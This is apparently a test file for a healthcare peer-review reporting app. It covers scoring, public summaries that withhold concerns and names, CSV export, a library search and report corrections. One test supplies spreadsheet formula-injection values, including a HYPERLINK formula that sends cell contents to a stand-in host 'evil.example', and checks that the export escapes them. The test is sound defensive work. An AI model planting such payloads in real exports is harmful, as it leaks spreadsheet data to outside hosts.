import { searchLibrary, validateLibraryEntry, type LibraryEntry } from '../../../src/domain/library';
import { buildOrganisationReportModel } from '../../../src/domain/organisation-report-model';
import { buildPublicSummary, publicSummaryProblems } from '../../../src/domain/public-summary';
import { ratingsCsv } from '../../../src/domain/ratings-csv';
import { buildServiceReportModel, type ServiceReportInput } from '../../../src/domain/report-model';
import { serviceReportDocument } from '../../../src/domain/service-report-document';
import {
  applyCorrections,
  checkCommentWindow,
  checkPassage,
  type ReportComment,
} from '../../../src/domain/report-comment';
import type { ReportDocument } from '../../../src/domain/report-document';
import { ratings, SMALL, thrown } from './fixtures';

const INPUT: ServiceReportInput = {
  framework: SMALL,
  subjectKind: 'service',
  subjectName: 'Rheumatology service',
  organisationName: 'GSTT',
  description: 'Care for inflammatory arthritis.',
  cycleName: 'Cycle 2026/27',
  generatedAt: '2027-02-01T10:00:00.000Z',
  team: [{ name: 'Dr Lowe', role: 'lead_reviewer', organisationName: 'KCH' }],
  visit: { date: '2027-01-25', format: 'in_person' },
  self: ratings({ '1.1': 'met', '1.2': 'met', '1.3': 'met', '2.1': 'met', '2.2': 'partly_met', '2.3': 'not_met' }),
  reviewerRatings: [
    {
      standardCode: '1.2',
      reviewerName: 'Dr Lowe',
      reviewerRole: 'lead_reviewer',
      rating: 'partly_met',
      comment: 'Only one clinic',
    },
    {
      standardCode: '1.2',
      reviewerName: 'Maria',
      reviewerRole: 'expert_by_experience',
      rating: 'not_met',
      comment: 'Nobody asked me',
    },
  ],
  agreed: [
    { standardCode: '1.1', rating: 'met', rationale: 'Audit seen.' },
    { standardCode: '1.2', rating: 'partly_met', rationale: 'One clinic of three.' },
    { standardCode: '1.3', rating: 'met', rationale: 'Seen.' },
    { standardCode: '2.1', rating: 'met', rationale: 'Seen.' },
    { standardCode: '2.2', rating: 'not_met', rationale: 'No plan.' },
    { standardCode: '2.3', rating: 'not_applicable', rationale: 'No inpatients.' },
  ],
  findings: [
    { standardCode: '2.2', kind: 'area_for_improvement', text: 'Write a joint care plan. It should include carers.' },
    { standardCode: '1.1', kind: 'good_practice', text: 'Every patient is asked about mood at each visit.' },
    { standardCode: '1.2', kind: 'immediate_concern', text: 'No route to urgent psychiatric help.' },
  ],
  previous: {
    cycleName: 'Cycle 2025/26',
    framework: SMALL,
    ratings: ratings({ '1.1': 'not_met', '1.2': 'met', '1.3': 'met' }),
  },
};

describe('service report model', () => {
  const model = buildServiceReportModel(INPUT);

  it('scores the agreed ratings, beside the self-assessment and the previous cycle, per theme', () => {
    // Agreed theme 1: met, partly, met = (2 + .5)/3 = 83.3; theme 2: met, not, N/A = 1/2 = 50.
    // Self theme 1: 100; theme 2: (1 + .5)/3 = 50. Previous theme 1: (0 + 1 + 1)/3 = 66.7; theme 2: none.
    expect(model.themes).toEqual([
      { themeCode: '1', title: 'Care', selfPercent: 100, agreedPercent: 83.3, previousPercent: 66.7 },
      { themeCode: '2', title: 'People', selfPercent: 50, agreedPercent: 50, previousPercent: null },
    ]);
    expect(model.scores.overall.percent).toBe(70);
    expect(model.scores.recognition.level).toBe('Developing');
  });

  it('keeps expert-by-experience ratings apart from peer ratings', () => {
    const row = model.standards.find((s) => s.code === '1.2');
    expect(row?.peer.map((o) => o.reviewer)).toEqual(['Dr Lowe']);
    expect(row?.expert.map((o) => [o.reviewer, o.rating])).toEqual([['Maria', 'not_met']]);
    expect(row?.rationale).toBe('One clinic of three.');
  });

  it('sorts findings into strengths, areas for improvement and immediate concerns', () => {
    expect(model.strengths.map((f) => f.standardCode)).toEqual(['1.1']);
    expect(model.areasForImprovement.map((f) => [f.standardCode, f.standardTitle])).toEqual([['2.2', 'Standard 2.2']]);
    expect(model.immediateConcerns).toHaveLength(1);
    expect(model.agreement.overall).toMatchObject({ pairs: 5, matching: 3 });
  });

  it('lays out a document whose theme table carries the same figures', () => {
    const doc = serviceReportDocument(model);
    const themes = doc.sections.find((s) => s.heading === 'Scores by theme')?.blocks.find((b) => b.kind === 'table');
    expect(themes?.kind === 'table' ? themes.rows.map((r) => r.slice(0, 4)) : []).toEqual([
      ['1. Care', 100, 83.3, 66.7],
      ['2. People', 50, 50, null],
    ]);
    expect(doc.fileStem).toBe('peer-review-report-rheumatology-service-cycle-2026-27');
  });

  it('writes a plain-English public summary with no codes', () => {
    const summary = buildPublicSummary(model, SMALL, INPUT.description);
    expect(summary.doesWell).toEqual(['Every patient is asked about mood at each visit.']);
    expect(summary.improving).toEqual(['Write a joint care plan.']);
    expect(summary.headline).toBe(
      'The review team looked at 5 standards of mind and body care that apply to this service. It fully meets 3, partly meets 1 and does not yet meet 1.',
    );
    expect(summary.recognitionMeaning).toMatch(/^Start\. The network's levels, from highest, are: Excellent/);
  });

  it('never shows an immediate concern or a named person in the public summary', () => {
    const named = buildServiceReportModel({
      ...INPUT,
      findings: [
        ...INPUT.findings,
        { standardCode: '1.3', kind: 'good_practice', text: 'Dr Lowe praised the clinic letters.' },
        { standardCode: '2.1', kind: 'area_for_improvement', text: 'Maria could not find the leaflet.' },
      ],
    });
    const summary = buildPublicSummary(named, SMALL, INPUT.description);
    const shown = JSON.stringify(summary);
    expect(shown).not.toContain('urgent psychiatric help');
    expect(shown).not.toContain('Dr Lowe');
    expect(shown).not.toContain('Maria');
    expect(publicSummaryProblems(summary, named)).toEqual([]);
  });

  it('finds an immediate concern or a named person in a summary about to be published', () => {
    const summary = { ...buildPublicSummary(model, SMALL, INPUT.description) };
    const leaky = { ...summary, improving: ['No route to urgent psychiatric help.'], doesWell: ['Dr Lowe was kind.'] };
    expect(publicSummaryProblems(leaky, model)).toEqual([
      'an immediate concern ("No route to urgent psychiatric help.")',
      'a named person (Dr Lowe)',
    ]);
  });

  it('exports every rating as CSV, one row per rating', () => {
    const lines = ratingsCsv(model).trim().split('\r\n');
    expect(lines[0]).toBe('standard_code,theme_code,standard_type,source,rater,rating,comment');
    expect(lines).toContain('1.2,1,essential,expert_by_experience,Maria,not_met,Nobody asked me');
    expect(lines).toContain('1.2,1,essential,agreed,review team,partly_met,One clinic of three.');
    expect(lines).toHaveLength(1 + 6 * 2 + 2);
  });

  it('exports comments and rationales that look like formulas as text a spreadsheet will not run', () => {
    const hostile = buildServiceReportModel({
      ...INPUT,
      reviewerRatings: INPUT.reviewerRatings.map((r, i) =>
        i === 0 ? { ...r, comment: '=HYPERLINK("https://evil.example/?"&A1,"See evidence")' } : r,
      ),
      agreed: INPUT.agreed.map((a, i) => (i === 0 ? { ...a, rationale: '@SUM(1+1)*cmd' } : a)),
    });
    const csv = ratingsCsv(hostile);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""See evidence"")"`);
    expect(csv).toContain(",'@SUM(1+1)*cmd\r\n");
    expect(csv).not.toMatch(/(^|,)"?[=@]/m);
  });
});

describe('organisation report model', () => {
  it('rolls up reviewed services with the organisation-level standards, leaving unreviewed ones out', () => {
    const part = (name: string, state: 'agreed' | 'in_progress', agreed: Parameters<typeof ratings>[0]) => ({
      name,
      framework: SMALL,
      state,
      self: ratings(agreed),
      agreed: ratings(agreed),
      findings: [],
    });
    const model = buildOrganisationReportModel({
      framework: SMALL,
      organisationName: 'GSTT',
      cycleName: 'Cycle 2026/27',
      generatedAt: '2027-02-01T10:00:00.000Z',
      services: [
        part('A', 'agreed', { '1.1': 'met', '1.3': 'not_met' }),
        part('B', 'in_progress', { '1.1': 'not_met' }),
      ],
      organisation: part('GSTT', 'agreed', { '1.2': 'met', '1.4': 'partly_met' }),
      previous: null,
    });
    // Theme 1: A (met, not) + organisation (met, partly) = (2 + .5) / 4 = 62.5.
    expect(model.themes[0]?.score).toMatchObject({ met: 2, partlyMet: 1, notMet: 1, percent: 62.5 });
    expect(model.services.map((s) => [s.name, s.reviewed, s.recognitionLevel])).toEqual([
      ['A', true, 'Developing'],
      ['B', false, 'Not yet reviewed'],
    ]);
  });
});

describe('good-practice library', () => {
  const entry = (
    id: string,
    title: string,
    themeCode: string,
    publishedAt: string,
    status: LibraryEntry['status'] = 'published',
  ) =>
    ({
      id,
      title,
      themeCode,
      publishedAt,
      status,
      whatTheyDo: 'A weekly joint clinic with the liaison psychiatrist.',
      standardCode: `${themeCode}.1`,
      standardTitle: 'Joint care',
      themeTitle: 'Care',
      subjectName: 'Diabetes',
      organisationName: 'KCH',
      organisationId: 'org-kch',
    }) as LibraryEntry;
  const entries = [
    entry('a', 'Mood checks in clinic', '1', '2027-01-01T00:00:00Z'),
    entry('b', 'Staff wellbeing huddles', '4', '2027-02-01T00:00:00Z'),
    entry('c', 'Liaison clinic', '1', '2027-03-01T00:00:00Z'),
    entry('d', 'Withdrawn clinic', '1', '2027-04-01T00:00:00Z', 'withdrawn'),
  ];

  it('finds published entries by every word, title matches first, then the newest', () => {
    expect(searchLibrary(entries, { q: 'clinic' }).map((e) => e.id)).toEqual(['c', 'a', 'b']);
    expect(searchLibrary(entries, { q: 'liaison clinic' }).map((e) => e.id)).toEqual(['c', 'a', 'b']);
    expect(searchLibrary(entries, { q: 'weekly' }).map((e) => e.id)).toEqual(['c', 'b', 'a']);
    expect(searchLibrary(entries, { themeCode: '4' }).map((e) => e.id)).toEqual(['b']);
    expect(searchLibrary(entries, { q: 'nothing-like-this' })).toEqual([]);
  });

  it('needs a title, what the service does and a contact', () => {
    const e = thrown(() => validateLibraryEntry({ title: '', whatTheyDo: 'x', contact: { name: '', email: '' } }));
    expect(e.message).toBe(
      'A library entry needs a title, a contact name and e-mail, so that others can learn from it and get in touch.',
    );
  });
});

describe('corrections from the factual-accuracy check', () => {
  const doc = serviceReportDocument(buildServiceReportModel(INPUT));
  const comment = (overrides: Partial<ReportComment>): ReportComment => ({
    id: 'c-1',
    version: 1,
    assessmentId: 'a-1',
    cycleId: 'c-1',
    section: 'Strengths',
    passage: '1.1 Health checks: Every patient is asked about mood at each visit.',
    whatIsWrong: 'Not every patient.',
    shouldSay: '1.1 Health checks: Most patients are asked about mood at each visit.',
    evidenceUrl: null,
    status: 'accepted',
    commentedBy: 'p-1',
    commentedAt: '2027-02-02T10:00:00.000Z',
    decision: { by: 'p-2', at: '2027-02-03T10:00:00.000Z', reason: 'Audit shows 80%.' },
    ...overrides,
  });
  const strengths = (d: ReportDocument) =>
    d.sections.find((s) => s.heading === 'Strengths')?.blocks.flatMap((b) => (b.kind === 'bullets' ? b.items : []));
  const passage = strengths(doc)?.[0] ?? '';

  it('replaces an accepted passage in its section and leaves open and rejected ones as they were', () => {
    expect(passage).toMatch(/Every patient is asked about mood/);
    const accepted = comment({ passage, shouldSay: 'Most patients are asked about mood.' });
    expect(strengths(applyCorrections(doc, [accepted]))).toEqual(['Most patients are asked about mood.']);
    for (const status of ['open', 'rejected'] as const) {
      expect(strengths(applyCorrections(doc, [comment({ passage, status })]))).toEqual([passage]);
    }
    expect(strengths(applyCorrections(doc, [comment({ passage, section: 'Summary' })]))).toEqual([passage]);
  });

  it('takes comments only during the check and only on a passage the report has', () => {
    expect(thrown(() => checkCommentWindow('draft')).code).toBe('report_not_in_check');
    expect(thrown(() => checkCommentWindow('final')).message).toMatch(/Contact the lead reviewer/);
    expect(() => checkCommentWindow('factual_accuracy_check')).not.toThrow();
    expect(thrown(() => checkPassage(doc, 'Strengths', 'Not in it.')).code).toBe('passage_not_found');
    expect(thrown(() => checkPassage(doc, 'Nowhere', passage)).message).toMatch(/no section called "Nowhere"/);
    expect(() => checkPassage(doc, 'Strengths', passage)).not.toThrow();
  });
});
